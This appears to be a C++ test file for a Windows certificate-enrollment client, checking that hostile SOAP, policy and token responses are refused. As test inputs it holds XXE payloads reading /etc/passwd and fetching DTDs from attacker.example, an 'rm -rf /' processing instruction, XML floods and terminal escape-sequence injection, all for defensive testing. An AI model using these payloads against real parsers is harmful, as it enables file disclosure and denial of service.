// Hostile input from a network attacker or a malicious CEP/CES server, end to end through the
// layers the real responses pass (SOAP envelope, then the MS-XCEP or MS-WSTEP parser, then the
// check of what was issued): each is refused with a protocol Error that says why, never a crash
// or a silently accepted guess. The XML layer's own refusals (DOCTYPE, billion laughs, depth,
// node and attribute counts, UTF-8 in text) are in xml_test.cpp; the RSTR fixtures in
// wstep_test.cpp.

#include <doctest/doctest.h>

#include <fstream>
#include <iterator>
#include <string>
#include <vector>

#include "crypto/ossl.hpp"
#include "crypto/pkcs7.hpp"
#include "encoding/base64.hpp"
#include "error.hpp"
#include "flows/issuance.hpp"
#include "soap/envelope.hpp"
#include "soap/fault.hpp"
#include "test_pki.hpp"
#include "wstep/response.hpp"
#include "xcep/get_policies.hpp"
#include "xml/xml.hpp"

using namespace certenroll;

namespace {

std::string read_data(const std::string& name) {
    const std::string path = std::string(CERTENROLL_TEST_DATA_DIR) + "/" + name;
    std::ifstream in(path, std::ios::binary);
    REQUIRE_MESSAGE(in.good(), "cannot open " << path);
    return {std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>()};
}

std::string replace_once(std::string text, const std::string& from, const std::string& to) {
    const auto at = text.find(from);
    REQUIRE_MESSAGE(at != std::string::npos, "fixture lacks " << from);
    return text.replace(at, from.size(), to);
}

// The Error `action` throws; fails the test unless it is a protocol error containing `needle`.
template <typename Action>
void check_refused(Action action, const std::string& needle) {
    try {
        action();
        FAIL("accepted; expected a protocol error containing '" << needle << "'");
    } catch (const Error& e) {
        CHECK_MESSAGE(e.kind() == ErrorKind::Protocol, e.message());
        CHECK_MESSAGE(e.message().find(needle) != std::string::npos, e.message());
        CHECK_MESSAGE(!e.hint().empty(), e.message());
    }
}

void check_policy_refused(const std::string& document, const std::string& needle) {
    check_refused(
        [&] {
            (void)xcep::parse_get_policies_response(soap::parse_response(200, document).payload);
        },
        needle);
}

// A fault inside one template marks that template unusable (the rest of a policy stays usable)
// rather than guessing: the policy parses, the template carries the error.
void check_template_refused(const std::string& document, const std::string& needle) {
    const auto policy =
        xcep::parse_get_policies_response(soap::parse_response(200, document).payload);
    REQUIRE(policy.templates.size() == 1);
    const auto& errors = policy.templates[0].policy_errors;
    REQUIRE_MESSAGE(errors.size() == 1,
                    "expected the template to be marked with '" << needle << "'");
    CHECK_MESSAGE(errors[0].find(needle) != std::string::npos, errors[0]);
}

void check_rstr_refused(const std::string& document, const std::string& needle) {
    check_refused(
        [&] { (void)wstep::parse_submit_response(soap::parse_response(200, document).payload); },
        needle);
}

const std::string kEnvelopeStart =
    R"(<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Header/><s:Body>)";
const std::string kEnvelopeEnd = "</s:Body></s:Envelope>";

}  // namespace

TEST_CASE("hostile XML is refused by the SOAP layer before any protocol code sees it") {
    const auto with_body = [](const std::string& inner) {
        return kEnvelopeStart + inner + kEnvelopeEnd;
    };
    // With HTTP 200 a body that is not usable XML is a protocol error; with HTTP 500 it is "HTTP
    // 500 without a SOAP body" (a network error), refused just the same.
    const auto refuse = [](const std::string& document, const std::string& needle,
                           const xml::Limits& limits = {}) {
        check_refused([&] { (void)soap::parse_response(200, document, limits); }, needle);
        CHECK_THROWS_AS((void)soap::parse_response(500, document, limits), Error);
    };
    // XXE: an external entity, an external DTD, a parameter entity.
    refuse(
        R"(<?xml version="1.0"?><!DOCTYPE s:Envelope [<!ENTITY x SYSTEM "file:///etc/passwd">]>)" +
            with_body("<r>&x;</r>"),
        "DOCTYPE");
    refuse(R"(<!DOCTYPE r SYSTEM "http://attacker.example/x.dtd">)" + with_body("<r/>"), "DOCTYPE");
    refuse(R"(<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>)" +
               with_body("<r/>"),
           "DOCTYPE");
    // Over the size cap: 16 MiB by default, checked before parsing.
    std::string huge = with_body("<r>" + std::string(16 * 1024 * 1024, 'A') + "</r>");
    refuse(huge, "exceeds the limit");
    huge.clear();
    xml::Limits small;
    small.max_bytes = 1024;
    refuse(with_body("<r>" + std::string(2000, 'A') + "</r>"), "exceeds the limit", small);
    // Over the depth cap (64), inside an otherwise valid envelope.
    std::string deep;
    for (int i = 0; i < 70; ++i)
        deep += "<a>";
    for (int i = 0; i < 70; ++i)
        deep += "</a>";
    refuse(with_body(deep), "nested deeper than 64");
    // Invalid UTF-8 in an attribute value and in a name, a NUL byte.
    refuse(with_body("<r a=\"\xFF\xFE\"/>"), "UTF-8");
    refuse(with_body("<r\xC3/>"), "");
    refuse(with_body(std::string("<r>a\0b</r>", 10)), "");
}

TEST_CASE("100,000 attributes on one element or 4 million empty elements are refused unparsed") {
    // Issue 21: tinyxml2 alone takes seconds and hundreds of MB on these; the pre-scan
    // (src/xml/prescan) refuses them before tinyxml2 allocates anything.
    const std::string start = kEnvelopeStart +
                              "<GetPoliciesResponse "
                              "xmlns=\"http://schemas.microsoft.com/windows/pki/2009/01/"
                              "enrollmentpolicy\"><response";
    const std::string end = "</response></GetPoliciesResponse>" + kEnvelopeEnd;
    std::string document = start;
    for (int i = 0; i < 100'000; ++i)
        document += " a" + std::to_string(i) + "=\"1\"";
    document += ">" + end;
    check_refused([&] { (void)soap::parse_response(200, document); },
                  "an XML element has more than 64 attributes");

    document = start + ">";
    document.reserve(document.size() + 16'000'000 + end.size());
    for (int i = 0; i < 4'000'000; ++i)
        document += "<a/>";
    document += end;
    REQUIRE(document.size() < xml::Limits{}.max_bytes);
    check_refused([&] { (void)soap::parse_response(200, document); },
                  "XML document has more than 120000 nodes");
}

TEST_CASE("undeclared entities are refused, XInclude is inert, processing instructions refused") {
    // There is no DTD, so no entity other than the five predefined ones exists.
    check_refused(
        [] { (void)soap::parse_response(200, kEnvelopeStart + "<r>&xxe;</r>" + kEnvelopeEnd); },
        "undefined entity '&xxe;'");
    const auto response = soap::parse_response(
        200, kEnvelopeStart +
                 R"(<r xmlns:xi="http://www.w3.org/2001/XInclude">)"
                 R"(<xi:include href="file:///etc/passwd" parse="text"/></r>)" +
                 kEnvelopeEnd);
    CHECK(response.payload.name() == "r");
    REQUIRE(response.payload.children().size() == 1);
    CHECK(response.payload.children().front().name() == "include");
    CHECK(response.payload.children().front().text().empty());
    check_refused(
        [] {
            (void)soap::parse_response(
                200, kEnvelopeStart + R"(<?evil run="rm -rf /"?><r/>)" + kEnvelopeEnd);
        },
        "processing instruction refused");
}

TEST_CASE("base64 garbage is a protocol error wherever it appears") {
    for (const char* garbage : {"!!!!", "QUJD\x01", "QQ=Q", "Q", "====", "QUJD=QUJD"}) {
        CAPTURE(garbage);
        check_refused([&] { (void)encoding::base64_decode(garbage, "token"); }, "token");
    }
    const auto policy = read_data("xcep/valid_minimal.xml");
    check_template_refused(
        replace_once(policy, "<value>AwIFoA==</value>", "<value>A*IFoA==</value>"),
        "extension value");
    const auto rstr = read_data("wstep/issued.xml");
    check_rstr_refused(replace_once(rstr, ">MII", ">%%%MII"), "BinarySecurityToken (PKCS7)");
}

TEST_CASE("GetPolicies: duplicated and missing required elements are refused, not guessed") {
    const auto base = read_data("xcep/valid_minimal.xml");
    CHECK(xcep::parse_get_policies_response(soap::parse_response(200, base).payload)
              .templates.size() == 1);
    check_policy_refused(replace_once(base, "<policyID>broken</policyID>",
                                      "<policyID>broken</policyID><policyID>evil</policyID>"),
                         "duplicated <policyID> in <response>");
    check_template_refused(
        replace_once(base, "<commonName>Broken</commonName>",
                     "<commonName>Broken</commonName><commonName>X</commonName>"),
        "duplicated <commonName> in <attributes>");
    check_template_refused(replace_once(base, "<minimalKeyLength>2048</minimalKeyLength>",
                                        "<minimalKeyLength>2048</minimalKeyLength>"
                                        "<minimalKeyLength>512</minimalKeyLength>"),
                           "duplicated <minimalKeyLength>");
    check_policy_refused(
        replace_once(base, "<enrollPermission>true</enrollPermission>",
                     "<enrollPermission>true</enrollPermission><cAReferenceID>9</cAReferenceID>"),
        "duplicated <cAReferenceID> in <cA>");
    check_policy_refused(replace_once(base, "</response>", "</response><response/>"),
                         "duplicated <response> in <GetPoliciesResponse>");
    check_policy_refused(replace_once(base, "</oIDs>", "</oIDs><oIDs/>"),
                         "duplicated <oIDs> in <GetPoliciesResponse>");
    check_policy_refused(replace_once(base, "<policyID>broken</policyID>", ""),
                         "missing <policyID> in <response>");
    check_policy_refused(replace_once(base, "<cAReferenceID>0</cAReferenceID>", ""),
                         "cAReferenceID");
    check_template_refused(replace_once(base, "<commonName>Broken</commonName>", ""), "commonName");
}

TEST_CASE("RSTR: duplicated and missing required elements are refused, not guessed") {
    const auto base = read_data("wstep/issued.xml");
    const std::string tt =
        "<TokenType>http://docs.oasis-open.org/wss/2004/01/"
        "oasis-200401-wss-x509-token-profile-1.0#X509v3</TokenType>";
    check_rstr_refused(replace_once(base, tt, tt + tt), "duplicated <TokenType>");
    const auto requested_start = base.find("<RequestedSecurityToken>");
    const auto requested_end = base.find("</RequestedSecurityToken>");
    REQUIRE(requested_start != std::string::npos);
    REQUIRE(requested_end != std::string::npos);
    const auto requested =
        base.substr(requested_start, requested_end - requested_start +
                                         std::string("</RequestedSecurityToken>").size());
    check_rstr_refused(replace_once(base, requested, requested + requested),
                       "duplicated <RequestedSecurityToken>");
    const auto inner_token =
        requested.substr(std::string("<RequestedSecurityToken>").size(), requested.size() - 49);
    check_rstr_refused(replace_once(base, inner_token, inner_token + inner_token),
                       "duplicated <BinarySecurityToken> in <RequestedSecurityToken>");
    check_rstr_refused(replace_once(base, requested, ""), "neither a certificate");
    check_rstr_refused(replace_once(base, "<RequestSecurityTokenResponse>", ""), "malformed XML");
}

TEST_CASE("a RequestID of absurd length is refused in responses and in faults") {
    const std::string absurd(100000, '7');
    check_rstr_refused(replace_once(read_data("wstep/pending.xml"), ">63<", ">" + absurd + "<"),
                       "not a plausible request id");
    const auto fault = read_data("wstep/fault_denied.xml");
    const auto id_at = fault.find("RequestID>");
    REQUIRE(id_at != std::string::npos);
    const auto id_end = fault.find('<', id_at);
    const auto original = fault.substr(id_at, id_end - id_at);
    // The untouched fixture is a denial carrying its request id.
    try {
        (void)soap::parse_response(500, fault);
        FAIL("a fault was accepted");
    } catch (const Error& e) {
        CHECK(e.kind() == ErrorKind::Denied);
        CHECK_FALSE(e.request_id().empty());
    }
    // The escape character as a reference: a literal one makes the whole document malformed.
    for (const auto& bad : {absurd, std::string("12 34"), std::string("12&#x1b;[2J")}) {
        check_refused(
            [&] {
                (void)soap::parse_response(500, replace_once(fault, original, "RequestID>" + bad));
            },
            "not a plausible request id");
    }
}

TEST_CASE("a fault's reason reaches the terminal without escape sequences or flooding") {
    const auto fault = read_data("wstep/fault_denied.xml");
    const std::string reason_start = "<s:Text xml:lang=\"en-US\">";
    const auto at = fault.find(reason_start);
    REQUIRE(at != std::string::npos);
    const auto begin = at + reason_start.size();
    const auto end = fault.find("</s:Text>", begin);
    const auto with_reason = [&](const std::string& reason) {
        auto document = fault;
        return document.replace(begin, end - begin, reason);
    };
    try {
        (void)soap::parse_response(500, with_reason("Denied&#x1b;[2J&#x1b;]0;owned&#x7;ok"));
        FAIL("a fault was accepted");
    } catch (const Error& e) {
        CHECK(e.kind() == ErrorKind::Denied);
        CHECK(e.message().find('\x1b') == std::string::npos);
        CHECK(e.message().find('\x07') == std::string::npos);
        CHECK(e.message().find("Denied?[2J?]0;owned?ok") != std::string::npos);
    }
    try {
        (void)soap::parse_response(500, with_reason(std::string(100000, 'x')));
        FAIL("a fault was accepted");
    } catch (const Error& e) {
        CHECK(e.message().size() < 1200);
    }
}

// ---- What was issued: the certificate, its key, its chain ------------------------------------

namespace {

using test::certs_only_pkcs7;
using test::TestPki;

wstep::SubmitResult issued(const crypto::Certificate& leaf, encoding::Bytes pkcs7) {
    wstep::SubmitResult result;
    result.disposition = wstep::Disposition::Issued;
    result.request_id = "42";
    result.certificate_der = leaf.to_der();
    result.pkcs7_der = std::move(pkcs7);
    return result;
}

}  // namespace

TEST_CASE("an issued certificate is checked against our key and its chain") {
    TestPki pki;
    const auto good = issued(pki.leaf, certs_only_pkcs7({&pki.inter2, &pki.inter1, &pki.root}));
    const auto chain = flows::verify_issued(good, pki.leaf_key.get(), {pki.root});
    CHECK(chain.chain.size() == 3);

    SUBCASE("a certificate for a different key than the request") {
        const auto other_key = test::make_key();
        check_refused([&] { (void)flows::verify_issued(good, other_key.get(), {pki.root}); },
                      "is not for our key");
    }
    SUBCASE("a PKCS#7 without the leaf's issuer") {
        const auto response = issued(pki.leaf, certs_only_pkcs7({&pki.inter1, &pki.root}));
        check_refused([&] { (void)flows::verify_issued(response, pki.leaf_key.get(), {}); },
                      "no issuer of the certificate");
    }
    SUBCASE("an empty PKCS#7 and none at all") {
        check_refused(
            [&] {
                (void)flows::verify_issued(issued(pki.leaf, certs_only_pkcs7({})),
                                           pki.leaf_key.get(), {});
            },
            "no issuer of the certificate");
        check_refused(
            [&] { (void)flows::verify_issued(issued(pki.leaf, {}), pki.leaf_key.get(), {}); },
            "no issuer of the certificate");
    }
    SUBCASE("a chain that does not build to the policy's CA") {
        TestPki other;  // same names, other keys: names match, signatures do not
        const auto response =
            issued(pki.leaf, certs_only_pkcs7({&other.inter2, &other.inter1, &other.root}));
        check_refused([&] { (void)flows::verify_issued(response, pki.leaf_key.get(), {}); },
                      "no issuer of the certificate");
        const auto partial = issued(pki.leaf, certs_only_pkcs7({&pki.inter2}));
        check_refused(
            [&] { (void)flows::verify_issued(partial, pki.leaf_key.get(), {other.root}); },
            "does not lead to a CA named in the enrollment policy");
    }
    SUBCASE("garbage where the PKCS#7 or the certificate should be") {
        auto response = good;
        response.pkcs7_der = {0x30, 0x03, 0x02, 0x01, 0x00};
        check_refused([&] { (void)flows::verify_issued(response, pki.leaf_key.get(), {}); }, "");
        response = good;
        response.certificate_der = {0x30, 0x80, 0x00};
        check_refused([&] { (void)flows::verify_issued(response, pki.leaf_key.get(), {}); }, "");
        response.certificate_der = pki.leaf.to_der();
        response.certificate_der.push_back(0);
        check_refused([&] { (void)flows::verify_issued(response, pki.leaf_key.get(), {}); }, "");
    }
}
